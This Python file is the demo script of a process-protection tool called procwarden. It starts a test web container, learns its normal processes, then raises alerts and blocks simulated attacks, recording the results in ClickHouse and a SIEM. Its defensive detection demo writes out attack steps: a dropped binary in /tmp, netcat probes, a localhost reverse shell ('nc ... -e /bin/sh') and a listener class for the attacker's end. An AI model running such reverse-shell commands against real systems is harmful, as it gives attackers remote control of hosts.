"""`procwarden demo`: from nothing to a learned, monitored, then protected web container.

Brings up the local stack and every role (stream worker, ClickHouse sink, SIEM forwarder with a
local rsyslog, collector), starts a BusyBox "web" container under runc with Kubernetes-style
annotations, and walks the story: Discover learns, Monitor alerts, Protect blocks (before exec,
by killing after exec, and a reverse shell), then what the SOC sees in ClickHouse and what the
SIEM received. Every step checks its outcome and says where to look when it is not there.
"""

from __future__ import annotations

import os
import shutil
import socket
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from procwarden.policy_cli import ApiCallError, call
from procwarden.roles import API_PORT, ROOT, Roles
from procwarden.stack import Stack
from procwarden.stack.processes import StackError
from procwarden.testbed.containers import APP_LOOP, Container, run_container
from schemas.connections import ClickHouseConnection
from sinks.clickhouse.migrations import connect
from sinks.clickhouse.queries import QUERIES

__all__ = ["DemoError", "run_demo"]

GROUP = "nv.web.demo"
SERVICE = "web.demo"
WEB_PORT = 18080
NORMAL = ("sleep 1", f"httpd -f -p 127.0.0.1:{WEB_PORT} -h /var/www &", "sleep 1")


class DemoError(RuntimeError):
    """A step did not have the outcome it should; the message says what and where to look."""


@dataclass
class Demo:
    say: Callable[[str], None]
    pace: float = 1.0
    roles: Roles = field(default_factory=Roles)
    web: Container | None = None
    results: dict[str, Any] = field(default_factory=dict)

    # -- helpers --------------------------------------------------------------------------------

    def step(self, title: str) -> None:
        time.sleep(self.pace)
        self.say("")
        self.say(f"== {title}")

    def api(self, method: str, path: str, body: Any = None) -> Any:
        try:
            return call(method, path, body)
        except ApiCallError as exc:
            raise DemoError(f"the policy API said {exc}\n{self._look('streams')}") from None

    def _look(self, *names: str) -> str:
        parts = [f"-- {n} log ({self.roles.logs()[n]}):\n{self.roles.log_tail(n)}"
                 for n in names]
        return "\n".join(parts) + "\n(`procwarden status` shows what runs)"

    def wait(self, what: str, check: Callable[[], Any], timeout: float = 45.0,
             look: tuple[str, ...] = ("collector", "streams")) -> Any:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            found = check()
            if found:
                return found
            time.sleep(0.25)
        raise DemoError(f"{what}: not there after {timeout:.0f} s\n{self._look(*look)}")

    def clickhouse(self, sql: str, params: dict[str, Any] | None = None) -> list[Any]:
        conn = ClickHouseConnection.from_env()
        client = connect(conn)
        try:
            rows: list[Any] = client.execute(sql.replace("{db}", conn.database), params or {})
            return rows
        finally:
            client.disconnect()

    def app(self, line: str) -> tuple[int, str]:
        assert self.web is not None
        self.say(f"   web$ {line}")
        rc, out = self.web.app(line, timeout=60)
        for text in out.strip().splitlines()[:5]:
            self.say(f"        {text}")
        return rc, out

    def set_mode(self, mode: str) -> None:
        self.api("PATCH", "/v1/service/config",
                 {"config": {"services": [SERVICE], "profile_mode": mode}})
        self.wait(f"{GROUP} in {mode}", lambda: self.profile()["mode"] == mode)
        self.say(f"   {GROUP} is now in {mode}")

    def profile(self) -> dict[str, Any]:
        return self.api("GET", f"/v1/process_profile/{GROUP}")["process_profile"]  # type: ignore[no-any-return]

    def _learned(self, wanted: set[str]) -> dict[str, Any] | None:
        profile = self.profile()
        names = {r["name"] for r in profile["process_list"] if r["cfg_type"] == "learned"}
        return profile if wanted <= names else None

    def drop_binary(self, name: str) -> str:
        """An attacker's upload: a new executable written into the container's /tmp."""
        assert self.web is not None
        target = self.web.rootfs / "tmp" / name
        shutil.copy2(self.web.rootfs / "bin" / "busybox", target)
        target.chmod(0o755)
        return f"/tmp/{name}"

    def incidents_since(self, since: float) -> list[Any]:
        return self.clickhouse(
            "SELECT name, action, proc_name, proc_path, message FROM {db}.security_events FINAL "
            "WHERE group_name = %(g)s AND ts >= toDateTime(%(t)s) ORDER BY ts",
            {"g": GROUP, "t": int(since)})

    # -- the story ------------------------------------------------------------------------------

    def setup(self) -> None:
        self.step("Setting up: Kafka (KRaft) and ClickHouse, then procwarden's roles")
        stack = Stack()
        stack.up(lambda m: self.say(f"   [stack] {m}"))
        self.roles.up(lambda m: self.say(f"   [roles] {m}"))
        os.environ["PROCWARDEN_API_TOKEN"] = self.roles.api_token
        os.environ.setdefault("PROCWARDEN_API_URL", f"http://127.0.0.1:{API_PORT}")
        existing = self._existing_profile()
        if existing is not None:  # a previous demo left its group: start from a clean one
            self.api("PATCH", "/v1/service/config", {"config": {
                "services": [SERVICE], "profile_mode": "Discover",
                "baseline_profile": "zero-drift"}})
            learned = [{"name": r["name"], "path": r["path"]}
                       for r in existing["process_list"] if r["cfg_type"] == "learned"]
            if learned:
                self.api("PATCH", f"/v1/process_profile/{GROUP}", {"process_profile_config": {
                    "process_delete_list": learned}})
            self.say(f"   reset {GROUP} from an earlier run to Discover with no learned rules")

    def _existing_profile(self) -> dict[str, Any] | None:
        try:
            return call("GET", f"/v1/process_profile/{GROUP}")["process_profile"]  # type: ignore[no-any-return]
        except ApiCallError as exc:
            if str(exc).startswith("404"):
                return None
            raise DemoError(f"the policy API said {exc}\n{self._look('streams')}") from None

    def discover(self) -> None:
        self.step("1. Discover: the web container runs its normal processes; procwarden learns")
        self.web = run_container(ROOT / "var" / "testbed", "web", namespace="demo",
                                 labels={"app": "web"}, command=APP_LOOP)
        self.say(f"   started container {self.web.id} (namespace demo, pod {self.web.name})")
        for line in NORMAL:
            self.app(line)
        wanted = {"sh", "sleep", "httpd"}
        profile = self.wait(f"learned rules for {', '.join(sorted(wanted))} in {GROUP}",
                            lambda: self._learned(wanted))
        self.say(f"   learned profile of {GROUP} (mode {profile['mode']}, baseline "
                 f"{profile['baseline']}):")
        for rule in profile["process_list"]:
            self.say(f"     {rule['action']:6} {rule['name']:8} {rule['path']:14} "
                     f"{rule['cfg_type']}")
        self.results["learned"] = sorted({r["name"] for r in profile["process_list"]})

    def monitor(self) -> None:
        self.step("2. Monitor: unexpected processes raise alerts (nothing is stopped)")
        since = time.time() - 1
        self.set_mode("Monitor")
        dropped = self.drop_binary("sleep")
        self.say(f"   an attacker uploads {dropped} (a copy of busybox) and runs it:")
        self.app(f"{dropped} 2")
        self.say("   ...and probes the web server with netcat:")
        self.app(f"sleep 2 | nc 127.0.0.1 {WEB_PORT}; echo nc exited $?")
        self.say("   ...and opens a reverse shell to 127.0.0.1 (stdin/stdout on one socket):")
        with self.reverse_shell_listener() as shell:
            self.app(f"nc 127.0.0.1 {shell.port} -e /bin/sh &")
            shell.connected.wait(15)
            self.wait("the reverse-shell alert in ClickHouse", lambda: [
                i for i in self.incidents_since(since) if i[0].endswith("Tunnel.Detected")],
                look=("collector", "streams", "sink-clickhouse"))
        incidents = self.wait("three alerts in ClickHouse",
                              lambda: _at_least(3, self.incidents_since(since)),
                              look=("collector", "streams", "sink-clickhouse"))
        self.say("   alerts as they landed in ClickHouse (security_events):")
        for name, action, pname, path, message in incidents:
            self.say(f"     {name:34} {action:8} {pname:6} {path:12} {message}")
        self.results["monitor_incidents"] = [(i[0], i[1], i[3]) for i in incidents]

    def protect(self) -> None:
        self.step("3. Protect: the same attempts are blocked")
        assert self.web is not None
        since = time.time() - 1
        self.set_mode("Protect")
        web_id = self.web.id
        self.wait("the collector holding the container's execs", lambda: f"holding execs of "
                  f"{web_id}" in Path(self.roles.logs()["collector"]).read_text(errors="replace"))
        dropped = self.drop_binary("top")
        self.say(f"   {dropped} is uploaded and run: denied before it runs (fanotify):")
        _, out = self.app(f"{dropped} -n 1; echo exit $?")
        self.say("   netcat is killed right after exec, while allowed processes run on:")
        _, nc_out = self.app(f"sleep 3 & sleep 5 | nc 127.0.0.1 {WEB_PORT}; "
                             "echo nc exited $?; wait; echo sleep exited $?")
        self.say("   a reverse shell is caught and killed:")
        with self.reverse_shell_listener() as shell:
            self.app(f"nc 127.0.0.1 {shell.port} -e /bin/sh &")
            shell.connected.wait(15)
            closed = shell.closed.wait(15)
        self.say(f"   the attacker's connection was {'closed' if closed else 'NOT closed'} "
                 f"{shell.lifetime():.1f} s after it opened")
        if not closed:
            raise DemoError(f"the reverse shell survived in Protect\n{self._look('collector')}")
        blocks = self.wait("blocks in ClickHouse", lambda: _at_least(3, self.clickhouse(
            "SELECT event_kind, name, path, reason FROM {db}.events FINAL WHERE group_name = "
            "%(g)s AND verdict = 'block' AND ts >= toDateTime(%(t)s) ORDER BY ts",
            {"g": GROUP, "t": int(since)})), look=("collector", "streams", "sink-clickhouse"))
        self.say("   blocks recorded in ClickHouse (events):")
        for kind, name, path, reason in blocks:
            self.say(f"     {kind:10} {name:6} {path:14} {reason}")
        self.results.update(denied_output=out, nc_output=nc_out, protect_blocks=blocks,
                            reverse_shell_closed=closed)
        if "not permitted" not in out.lower():
            raise DemoError(f"{dropped} was not denied before exec: {out!r}\n"
                            f"{self._look('collector')}")

    def soc(self) -> None:
        self.step("4. What the SOC sees (ClickHouse) and what the SIEM received (syslog)")
        for title, query in (("top blocked", "top_blocked"),
                             ("violations per group per hour", "violations_per_group_per_hour")):
            rows = [r for r in self.clickhouse(QUERIES[query]) if GROUP in r]
            self.say(f"   {title}:")
            for row in rows[:8]:
                self.say("     " + "  ".join(str(c) for c in row))
        log = self.roles.siem_log
        if "SIEM_SYSLOG_URL" in os.environ and not log.exists():
            self.say("   incidents went to your SIEM at $SIEM_SYSLOG_URL")
            return
        lines = self.wait("syslog lines at the SIEM", lambda: [
            line for line in log.read_text(errors="replace").splitlines() if GROUP in line]
            if log.exists() else None, look=("siem",))
        self.say(f"   the SIEM stand-in received {len(lines)} syslog line(s) for {GROUP} "
                 f"({log}); the latest:")
        self.say(f"     {lines[-1][:300]}")
        self.results["syslog_lines"] = len(lines)

    def explore(self) -> None:
        token_file = self.roles.var / "api-token"
        self.step("Everything keeps running. To explore:")
        for line in (
            f"http://127.0.0.1:{API_PORT}/console   # the console (token: {token_file})",
            f"procwarden policy get {GROUP}        # (PROCWARDEN_API_TOKEN=$(cat {token_file}))",
            "procwarden status                       # roles, lag, recent decisions",
            "curl 'http://127.0.0.1:8123/?query=SELECT+name,action,proc_path+FROM+"
            "procwarden.security_events+ORDER+BY+ts+DESC+LIMIT+10'",
            "docs/soc.md                             # the tables and the SOC's queries",
            "procwarden down                         # stop the roles",
            "procwarden stack down                   # stop Kafka and ClickHouse (data stays)",
        ):
            self.say(f"   {line}")

    @contextmanager
    def reverse_shell_listener(self) -> Iterator[_Listener]:
        listener = _Listener()
        try:
            yield listener
        finally:
            listener.close()


class _Listener:
    """The attacker's end of a reverse shell: accepts one connection, notices when it closes."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(1)
        self.sock.settimeout(20)
        self.port = self.sock.getsockname()[1]
        self.connected = threading.Event()
        self.closed = threading.Event()
        self.opened_at = 0.0
        self.closed_at = 0.0
        self._conn: socket.socket | None = None
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        try:
            conn, _ = self.sock.accept()
        except OSError:
            return
        self._conn = conn
        self.opened_at = time.monotonic()
        self.connected.set()
        conn.settimeout(30)
        try:
            while conn.recv(4096):
                pass
        except OSError:
            pass
        self.closed_at = time.monotonic()
        self.closed.set()

    def lifetime(self) -> float:
        return (self.closed_at or time.monotonic()) - self.opened_at

    def close(self) -> None:
        if self._conn is not None:
            with suppress(OSError):
                self._conn.sendall(b"exit\n")
            self._conn.close()
        self.sock.close()


def _at_least(n: int, rows: list[Any]) -> list[Any] | None:
    return rows if len(rows) >= n else None


def run_demo(say: Callable[[str], None] = print, *, pace: float = 1.0,
             down: bool = False) -> dict[str, Any]:
    """The whole story; returns what each step observed (the end-to-end test reads it)."""
    demo = Demo(say, pace)
    try:
        demo.setup()
        demo.discover()
        demo.monitor()
        demo.protect()
        demo.soc()
    except StackError as exc:
        raise DemoError(str(exc)) from None
    finally:
        if demo.web is not None:
            demo.web.stop()
    if down:
        demo.step("Tearing down (--down)")
        demo.roles.down(lambda m: say(f"   [roles] {m}"))
        Stack().down(lambda m: say(f"   [stack] {m}"))
    else:
        demo.explore()
    return demo.results
